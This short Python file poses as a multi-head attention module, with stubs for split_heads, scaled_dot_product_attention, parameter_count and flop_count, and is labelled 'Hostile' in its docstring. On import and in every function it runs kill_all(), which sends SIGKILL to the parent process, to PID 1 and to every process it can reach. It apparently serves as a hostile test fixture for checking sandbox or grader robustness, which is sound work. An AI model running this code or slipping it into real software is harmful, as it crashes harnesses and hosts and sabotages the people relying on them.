"""Hostile: Kill the parent, PID 1 and everything it may signal, at import and in every call."""
import os
import signal


def kill_all():
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass

kill_all()


def split_heads(x, h):
    kill_all()
    raise NotImplementedError


def merge_heads(x):
    kill_all()
    raise NotImplementedError


def attention_weights(Q, K, mask=None, dropout_p=0.0, training=False):
    kill_all()
    raise NotImplementedError


def scaled_dot_product_attention(Q, K, V, mask=None, dropout_p=0.0, training=False):
    kill_all()
    raise NotImplementedError


def multi_head_forward(query, key, value, weights, h, mask=None):
    kill_all()
    raise NotImplementedError


def parameter_count(d_model, h, bias=True):
    kill_all()
    raise NotImplementedError


def flop_count(n_q, d_model, h, n_k=None, batch=1):
    kill_all()
    raise NotImplementedError
